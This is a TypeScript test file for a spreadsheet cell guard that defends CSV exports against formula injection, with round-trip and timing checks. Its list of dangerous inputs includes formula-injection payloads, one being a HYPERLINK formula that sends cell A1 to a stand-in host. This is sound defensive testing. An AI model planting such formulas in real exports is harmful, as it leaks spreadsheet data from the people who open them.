import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { guardCell, unguardCell } from "#kernel/cell-guard.ts";
import { cpuNow } from "../../../test/fixtures/cpu-time.ts";

const throughCsv = (texts: readonly string[]): string[] => {
  const file = stringify([texts.map(guardCell)], { record_delimiter: "\r\n", quoted_match: /[\r\n]/ });
  const [row] = parse(file, { record_delimiter: "\r\n" }) as string[][];
  return (row ?? []).map(unguardCell);
};

const DANGEROUS = [
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  '=HYPERLINK("https://example.invalid/?"&A1,"ok")',
  "＝1+1",
  "＋A1",
  "－A1",
  "＠A1",
  " =1+1",
  "\ufeff=1+1",
  "\u00a0\t=1+1",
  '"=1+1',
  "\ttext",
  "\rtext",
  "\ntext",
  "=)",
  "@dupont",
  "- point un",
];
const HONEST = [
  "-2,5",
  "-2.5",
  "+33 6 12 34 56 78",
  "a\n=1+1",
  "a,=1+1",
  "%0A=1+1",
  'DDE("a";"b")',
  "l'eau",
  "d’accord",
  "",
];

describe("cells of a spreadsheet", () => {
  it.each(DANGEROUS)("guards %j", (text) => {
    expect(guardCell(text)).toBe(`'${text}`);
  });

  it.each(HONEST)("leaves %j as it is", (text) => {
    expect(guardCell(text)).toBe(text);
  });

  it("guards what looks guarded, so that nothing is lost on the way back", () => {
    expect(guardCell("'=1+1")).toBe("''=1+1");
    expect(guardCell("'quoted'")).toBe("'quoted'");
  });

  it("gives back every text that went out", () => {
    const anything = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.string({ unit: fc.constantFrom(..."'=+-@ \t\r\n\",;a1＝") }),
    );
    fc.assert(
      fc.property(fc.array(anything, { minLength: 1, maxLength: 5 }), (texts) => {
        expect(throughCsv(texts)).toEqual(texts);
      }),
      { numRuns: 300 },
    );
    expect(throughCsv([...DANGEROUS, ...HONEST])).toEqual([...DANGEROUS, ...HONEST]);
  });

  it("takes time in proportion to the length", () => {
    const started = cpuNow();
    for (const unit of [" ", "'", '"', "\t", "-1", "+ "]) guardCell(`${unit.repeat(100_000)}x`);
    expect(cpuNow() - started).toBeLessThan(500);
  });
});
